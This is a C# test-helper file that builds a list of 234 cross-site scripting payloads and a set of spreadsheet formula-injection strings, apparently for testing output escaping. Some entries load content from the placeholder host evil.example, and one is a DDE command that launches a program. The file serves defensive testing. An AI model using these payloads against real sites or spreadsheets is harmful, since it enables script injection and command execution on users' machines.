namespace Shouwen.Testing;

/// <summary>Texts that would run in a page that lets them out of where they belong.</summary>
public static class Payloads
{
    private static readonly string[] Inside =
    [
        "<script>alert(1)</script>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<xss id=x tabindex=1 onfocus=alert(1)>",
        "<div style=position:fixed;inset:0>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script>-->", "<div hx-get=/sign-out hx-trigger=load>", "<div hx-on:load=alert(1)>",
    ];

    private static readonly string[] Openings = ["", "\"'>", "</title></textarea></script>", "'\" autofocus onfocus=alert(1) x='", "&#60;", "javascript:alert(1)//", "]]>", "\u003c", "</option></select></svg>"];

    /// <summary>234 of them.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Openings.SelectMany(opening => Inside.Select(text => opening + text))];

    public static IReadOnlyList<string> Formulas { get; } = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\t=1", "\u200b=1", "＝1", "\";=1;\""];
}
